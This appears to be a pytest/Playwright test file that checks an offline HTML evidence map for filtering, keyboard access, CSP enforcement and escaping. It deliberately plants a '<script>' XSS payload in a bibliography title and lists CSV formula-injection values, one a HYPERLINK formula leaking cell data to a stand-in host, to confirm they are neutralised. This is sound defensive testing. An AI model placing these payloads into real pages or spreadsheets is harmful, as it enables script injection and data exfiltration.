"""``gap_map.html`` in headless Chromium: offline, filterable, shareable, escaped, keyboard-usable.

The page is built once for the module from a copy of the corpus whose bibliography has a
title carrying a ``<script>`` element, then opened from a ``file://`` URL.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import re
import shutil
from pathlib import Path

import pytest

from workbench.build import write_artefacts
from workbench.corpus import BIBLIOGRAPHY, CORPUS_DIR
from workbench.gaps import CHANNELS, analyse_gaps
from workbench.render.gap_map import script_json
from workbench.validation import load_corpus

HOSTILE = "<script>window.__pwned = 1</script>"
HOSTILE_KEY = "gray2020"


@pytest.fixture(scope="module")
def built(repo_root, tmp_path_factory):
    """Build ``gap_map.html`` once from a corpus copy with a hostile bibliography title."""
    return build_map(repo_root, tmp_path_factory)


def build_map(repo_root, tmp_path_factory):
    """Write the gap artefacts of a corpus copy whose bibliography has a hostile title;
    return the page's path and the analysis."""
    root = tmp_path_factory.mktemp("root")
    shutil.copytree(repo_root / CORPUS_DIR, root / CORPUS_DIR)
    bib = (repo_root / BIBLIOGRAPHY).read_text(encoding="utf-8")
    entry = bib.index("{" + HOSTILE_KEY + ",")
    title = bib.index("title", entry)
    brace = bib.index("{", title)
    (root / BIBLIOGRAPHY).write_text(
        bib[: brace + 1] + HOSTILE + " " + bib[brace + 1 :], encoding="utf-8"
    )
    corpus = load_corpus(root)
    assert HOSTILE in corpus.references.set_index("key").loc[HOSTILE_KEY, "title"]
    out = tmp_path_factory.mktemp("out")
    write_artefacts(corpus, out, ["gap_map_files"])  # the node `workbench build` runs
    return out / "gap_map.html", analyse_gaps(corpus)


@pytest.fixture
def page(browser, built):
    """A fresh page that records every request and every script error."""
    context = browser.new_context(viewport={"width": 1500, "height": 1000}, accept_downloads=True)
    page = context.new_page()
    page.requests = []
    page.errors = []
    page.on("request", lambda request: page.requests.append(request.url))
    page.on("pageerror", lambda error: page.errors.append(str(error)))
    yield page
    context.close()


def open_map(page, built, fragment: str = ""):
    html, _ = built
    page.goto(html.as_uri() + fragment)
    page.wait_for_selector("#grid td[role=gridcell]")


def tick(page, kind: str, value: str, on: bool) -> None:
    """Tick or untick a filter box (the filters sit in a collapsible section)."""
    page.evaluate("document.getElementById('filters').open = true")
    page.locator(f'input[data-filter="{kind}"][value="{value}"]').set_checked(on)


def td(page, row_id: str, topic_id: str):
    return page.locator(f'#grid td[data-row="{row_id}"][data-topic="{topic_id}"]')


def listed_evidence(page) -> set[tuple[str, str, str]]:
    """(evidence id, linking sentence, how coded) for every code listed in the panel."""
    rows = page.locator("#evidence-table tbody tr")
    found = set()
    for i in range(rows.count()):
        row = rows.nth(i)
        for code in row.locator("td.coded .code").all_text_contents():
            found.add(
                (
                    row.get_attribute("data-evidence"),
                    row.locator("td.sentence").text_content(),
                    code,
                )
            )
    return found


def expected_evidence(analysis, row_id: str, topic_id: str) -> set[tuple[str, str, str]]:
    e = analysis.evidence
    e = e[(e["row_id"] == row_id) & (e["topic_id"] == topic_id)]
    return {
        (i, s, f"{c} (on {o})")
        for i, s, c, o in zip(
            e["evidence_id"], e["sentence"], e["coded_by"], e["coded_on"], strict=True
        )
    }


def test_the_page_makes_no_network_request(page, built):
    html, _ = built
    open_map(page, built, "#open=standard:5")
    td(page, "standard:5", "topic:lgbt").click()
    with page.expect_download():
        page.locator("#evidence-csv").click()
    tick(page, "dimension", "delivery", False)
    page.reload()
    page.wait_for_selector("#grid td[role=gridcell]")
    page_url = html.as_uri()
    strays = [
        u
        for u in page.requests
        if not (u.split("#")[0] == page_url or u.startswith(("data:", "blob:")))
    ]
    assert strays == []
    assert page.requests, "the page load itself was recorded"
    assert page.errors == []


def test_a_filter_changes_the_map_and_is_restored_from_the_fragment(page, built):
    _, analysis = built
    open_map(page, built)
    topics = len(analysis.topics)
    assert page.locator("#grid th.topic").count() == topics
    assert td(page, "standard:1", "topic:lgbt").count() == 1
    tick(page, "dimension", "population", False)
    population = int((analysis.topics["dimension"] == "population").sum())
    assert page.locator("#grid th.topic").count() == topics - population
    assert td(page, "standard:1", "topic:lgbt").count() == 0
    assert "dims=form_of_abuse," in page.url and "population" not in page.url.split("dims=")[1]
    shared = page.url
    page.reload()
    page.wait_for_selector("#grid td[role=gridcell]")
    assert page.locator("#grid th.topic").count() == topics - population
    assert not page.locator('input[value="population"]').is_checked()
    # The same view opens from the shared link in a fresh page.
    fresh = page.context.new_page()
    fresh.goto(shared)
    fresh.wait_for_selector("#grid td[role=gridcell]")
    assert fresh.locator("#grid th.topic").count() == topics - population
    fresh.close()
    # A channel filter changes the numbers shown.
    open_map(page, built, "#channels=academic")
    cell = analysis.cells.set_index(["row_id", "topic_id"]).loc[
        ("standard:5", "topic:minoritised_ethnicity")
    ]
    assert td(page, "standard:5", "topic:minoritised_ethnicity").locator(
        ".count"
    ).text_content() == str(cell["count_academic"])
    assert not page.locator('input[data-filter="channel"][value="roundtable"]').is_checked()


def test_rows_expand_from_standard_to_guidelines(page, built):
    open_map(page, built)
    assert page.locator("#grid tr.guideline").count() == 0
    toggle = page.locator('tr[data-row="standard:5"] .row-toggle')
    assert toggle.get_attribute("aria-expanded") == "false"
    toggle.click()
    assert page.locator("#grid tr.guideline").count() == 5
    assert (
        page.locator('tr[data-row="standard:5"] .row-toggle').get_attribute("aria-expanded")
        == "true"
    )
    assert "open=standard:5" in page.url


def test_every_cell_shows_the_status_and_count_of_the_map(page, built):
    _, analysis = built
    standards = ",".join(analysis.rows.loc[analysis.rows["level"] == "standard", "row_id"])
    open_map(page, built, f"#open={standards}")
    shown = page.evaluate("""Array.from(document.querySelectorAll('#grid td[role=gridcell]'))
        .map(td => [td.dataset.row, td.dataset.topic, td.dataset.status,
                    Number(td.querySelector('.count').textContent)])""")
    cells = analysis.cells
    total = sum(cells[f"count_{c}"] for c in CHANNELS)
    expected = sorted(
        map(
            list,
            zip(
                cells["row_id"], cells["topic_id"], cells["status"], total.astype(int), strict=True
            ),
        )
    )
    assert sorted(shown) == expected
    assert len(shown) == 44 * len(analysis.topics)


def test_a_cell_click_lists_its_evidence(page, built):
    _, analysis = built
    open_map(page, built, "#open=standard:5")
    for row_id in ("standard:5", "guideline:5.4"):
        td(page, row_id, "topic:minoritised_ethnicity").click()
        expected = expected_evidence(analysis, row_id, "topic:minoritised_ethnicity")
        assert expected, "the cell has evidence"
        assert listed_evidence(page) == expected
        items = len({e[0] for e in expected})
        assert page.locator("#evidence-count").text_content().startswith(f"{items} items")
    assert page.locator("#evidence").get_attribute("aria-live") == "polite"
    with page.expect_download() as download:
        page.locator("#evidence-csv").click()
    with open(download.value.path(), encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {
        (r["evidence_id"], r["sentence"], f"{r['coded_by']} (on {r['coded_on']})") for r in rows
    } == expected
    assert {r["row_id"] for r in rows} == {"guideline:5.4"}


def test_a_script_in_a_bibliography_title_renders_as_text(page, built):
    html, analysis = built
    assert "<script>window.__pwned" not in html.read_text(encoding="utf-8")
    register = (html.parent / "gaps.md").read_text(encoding="utf-8")
    # gaps.md escapes every character that could open markup, so the title is checked as
    # CommonMark renders it: as text, with no HTML token
    from markdown_it import MarkdownIt

    tokens = [t for b in MarkdownIt("commonmark").parse(register) for t in [b, *(b.children or [])]]
    assert "<script>" not in register and not [t for t in tokens if t.type.startswith("html")]
    assert any(HOSTILE in t.content for t in tokens if t.type == "text")
    open_map(page, built)
    td(page, "standard:5", "topic:lgbt").click()
    citations = page.locator("#evidence-table td.citation").all_text_contents()
    assert any(HOSTILE in c for c in citations)
    assert page.evaluate("window.__pwned") is None
    assert page.locator("#evidence script").count() == 0
    assert page.locator("script").count() == 2
    assert page.errors == []


def test_the_map_is_operable_with_the_keyboard(page, built):
    _, analysis = built
    open_map(page, built)
    for _ in range(60):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.getAttribute('role')") == "gridcell":
            break
    else:
        pytest.fail("no grid cell is reachable with Tab")
    focused = page.evaluate(
        "[document.activeElement.dataset.row, document.activeElement.dataset.topic]"
    )
    assert focused == ["standard:1", analysis.topics["topic_id"].iloc[0]]
    page.keyboard.press("ArrowRight")
    page.keyboard.press("ArrowDown")
    row_id, topic_id = "standard:2", analysis.topics["topic_id"].iloc[1]
    assert page.evaluate("document.activeElement.dataset.row") == row_id
    page.keyboard.press("Enter")
    topic_label = analysis.topics.set_index("topic_id").loc[topic_id, "label"]
    assert page.locator("#evidence-title").text_content().startswith(f"Standard 2 × {topic_label}")
    assert td(page, row_id, topic_id).get_attribute("aria-selected") == "true"
    assert f"cell={row_id}~{topic_id}" in page.url
    # focus moves to the evidence, whose "Back to the map" returns to the cell
    assert page.evaluate("document.activeElement.id") == "evidence-heading"
    page.locator("#evidence-back").click()
    assert page.evaluate("document.activeElement.dataset.row") == row_id
    # A standard opens from the keyboard too.
    page.locator('tr[data-row="standard:3"] .row-toggle').focus()
    page.keyboard.press("Enter")
    assert (
        page.locator('tr[data-row="standard:3"] .row-toggle').get_attribute("aria-expanded")
        == "true"
    )
    assert page.locator('tr[data-row="guideline:3.1"]').count() == 1
    first = page.locator("#grid td[role=gridcell]").first
    label = first.get_attribute("aria-label")
    shown = " ".join(first.locator(".cell-top span").all_text_contents())
    assert label.startswith(shown + "") and "Standard 1 × " in label, "names start with the text"


def test_screenshot_for_review(page, built, tmp_path):
    open_map(page, built, "#open=standard:5&cell=guideline:5.4~topic:minoritised_ethnicity")
    page.screenshot(path=str(tmp_path / "gap_map.png"), full_page=True)
    assert (tmp_path / "gap_map.png").stat().st_size > 10_000


def test_the_inline_script_and_style_run_under_a_policy_naming_their_hashes(page, built):
    html, _ = built
    text = html.read_text(encoding="utf-8")
    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)
    assert "unsafe-inline" not in policy
    (script,) = re.findall(r"<script>(.*?)</script>", text, re.S)
    (style,) = re.findall(r"<style>(.*?)</style>", text, re.S)
    for source, content in (("script-src", script), ("style-src", style)):
        digest = base64.b64encode(hashlib.sha256(content.encode()).digest()).decode()
        assert f"{source} 'sha256-{digest}'" in policy
    console = []
    page.on("console", lambda message: console.append(message.text))
    open_map(page, built)
    assert not [m for m in console if "Content Security Policy" in m], console
    td(page, "standard:3", "topic:lgbt").click()  # the script runs: the panel fills in
    assert page.locator("#evidence-title").text_content().startswith("Standard 3 × ")
    colour = page.locator("#channel-legend .chip").first.evaluate(
        "n => getComputedStyle(n).backgroundColor"
    )
    assert colour not in ("", "rgba(0, 0, 0, 0)"), "styles set by the script apply"
    assert page.errors == []


def test_a_script_the_policy_does_not_name_is_refused(page, built, tmp_path):
    html, _ = built
    text = html.read_text(encoding="utf-8")
    tampered = tmp_path / "gap_map.html"
    tampered.write_text(
        text.replace("<script>\n", "<script>\nwindow.__tampered = 1;\n", 1), encoding="utf-8"
    )
    console = []
    page.on("console", lambda message: console.append(message.text))
    page.goto(tampered.as_uri())
    page.wait_for_timeout(300)
    assert page.evaluate("window.__tampered") is None
    assert page.locator("#grid td[role=gridcell]").count() == 0
    assert [m for m in console if "Content Security Policy" in m]


#: Cells a spreadsheet would run as formulas, put in the page's data in place of a citation.
FORMULAS = [
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def test_the_csv_download_neutralises_formulas(page, built, tmp_path):
    html, analysis = built
    text = html.read_text(encoding="utf-8")
    e = analysis.evidence
    academic = e[e["row_id"].str.startswith("standard:") & (e["channel"] == "academic")]
    per_cell = academic.groupby(["row_id", "topic_id"])["citation"].agg(lambda c: sorted(set(c)))
    (row_id, topic_id), citations = next(
        (k, v) for k, v in per_cell.items() if len(v) >= len(FORMULAS)
    )
    replaced = dict(zip(citations, FORMULAS, strict=False))
    for citation, formula in replaced.items():
        old = script_json(citation)
        assert text.count(old) == 1, citation
        text = text.replace(old, script_json(formula))
    page_path = tmp_path / "gap_map.html"
    page_path.write_text(text, encoding="utf-8")
    page.goto(f"{page_path.as_uri()}#cell={row_id}~{topic_id}")
    page.wait_for_selector("#evidence-csv")
    with page.expect_download() as download:
        page.locator("#evidence-csv").click()
    raw = Path(download.value.path()).read_bytes().decode("utf-8")  # CRs as they are
    with open(download.value.path(), encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    shown = {r["citation"] for r in rows if r["channel"] == "academic"}
    assert {"'" + f for f in FORMULAS} <= shown, "each formula shown as text"
    assert set(citations) - set(replaced) <= shown, "other citations as they are"
    assert {r["row_id"] for r in rows} == {row_id}, "cells that are not formulas unchanged"
    assert not [v for r in rows for v in r.values() if v.startswith(("=", "+", "-", "@"))]
    assert all(line.startswith('"') for line in raw.split("\n") if line), "every field quoted"


def test_the_index_page_runs_its_style_under_its_policy_and_nothing_else(page, tmp_path):
    from workbench.render.index import index_page

    index = tmp_path / "index.html"
    corpus = load_corpus(Path(__file__).resolve().parents[2])
    index.write_text(index_page(corpus, [Path("gap_map.html")], "0" * 64, {}), encoding="utf-8")
    text = index.read_text(encoding="utf-8")
    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)
    assert policy.startswith("default-src 'none'") and "unsafe-inline" not in policy
    console = []
    page.on("console", lambda message: console.append(message.text))
    page.goto(index.as_uri())
    assert not [m for m in console if "Content Security Policy" in m], console
    assert page.locator("h1").evaluate("n => getComputedStyle(n).fontSize") == "25.6px", (
        "the page's own style sheet applies (h1 at 1.6rem)"
    )
    assert page.locator('a[href="gap_map.html"]').count() == 1


def test_design_and_country_filters_count_only_the_matching_works(page, built):
    _, analysis = built
    cells = analysis.cells.set_index(["row_id", "topic_id"])
    practice = ["count_roundtable", "count_consultation", "count_programme", "count_framework"]
    open_map(page, built, "#countries=uk")
    assert not page.locator('input[data-filter="country"][value="elsewhere"]').is_checked()
    for key in (
        ("standard:3", "topic:groupwork"),
        ("standard:5", "topic:minoritised_ethnicity"),
        ("standard:3", "topic:behaviour_change"),
    ):
        cell = cells.loc[key]
        expected = int(cell["works_uk"] + sum(cell[c] for c in practice))
        assert td(page, *key).locator(".count").text_content() == str(expected), key
    open_map(page, built, "#designs=evaluation")
    for key in (("standard:6", "topic:minoritised_ethnicity"), ("standard:3", "topic:groupwork")):
        cell = cells.loc[key]
        expected = int(cell["works_evaluation"] + sum(cell[c] for c in practice))
        assert td(page, *key).locator(".count").text_content() == str(expected), key
    td(page, "standard:6", "topic:minoritised_ethnicity").click()
    designs = page.locator("#evidence-table td.design").all_text_contents()
    assert designs and all(d.lower().startswith("evaluation") for d in designs)


def test_stated_gaps_are_marked_and_listed_with_the_verdict(page, built):
    _, analysis = built
    stated = analysis.stated
    against = stated[stated["verdict"] == "contradicts"]
    open_map(page, built, "#open=" + ",".join(f"standard:{n}" for n in range(1, 8)))
    for row_id, topic_id in zip(against["row_id"], against["topic_id"], strict=True):
        assert td(page, row_id, topic_id).locator(".stated.against").count() == 1
    agreed = stated[
        (stated["row_id"] != "")
        & ~stated.set_index(["row_id", "topic_id"]).index.isin(
            against.set_index(["row_id", "topic_id"]).index
        )
    ]
    row_id, topic_id = agreed.iloc[0][["row_id", "topic_id"]]
    marker = td(page, row_id, topic_id).locator(".stated")
    assert marker.count() == 1 and "against" not in (marker.get_attribute("class") or "")
    unmarked = analysis.cells[
        ~analysis.cells.set_index(["row_id", "topic_id"]).index.isin(
            stated.set_index(["row_id", "topic_id"]).index
        )
        & (analysis.cells["level"] == "standard")
    ]
    assert td(page, *unmarked.iloc[0][["row_id", "topic_id"]]).locator(".stated").count() == 0
    td(page, "standard:5", "topic:minoritised_ethnicity").click()
    quotes = page.locator("#stated-list li q").all_text_contents()
    mine = stated[
        (stated["row_id"] == "standard:5") & (stated["topic_id"] == "topic:minoritised_ethnicity")
    ]
    marks = analysis.marks
    on_row = marks[(marks["scope"] == "row") & (marks["row_id"] == "standard:5")]
    on_topic = marks[
        (marks["scope"] == "topic")
        & (marks["topic_id"] == "topic:minoritised_ethnicity")
        & ~marks["gap_id"].isin(mine["gap_id"])
    ].drop_duplicates("gap_id")
    assert sorted(quotes) == sorted([*mine["quote"], *on_row["quote"], *on_topic["quote"]])
    assert any("needs building in a UK context" in q for q in quotes)
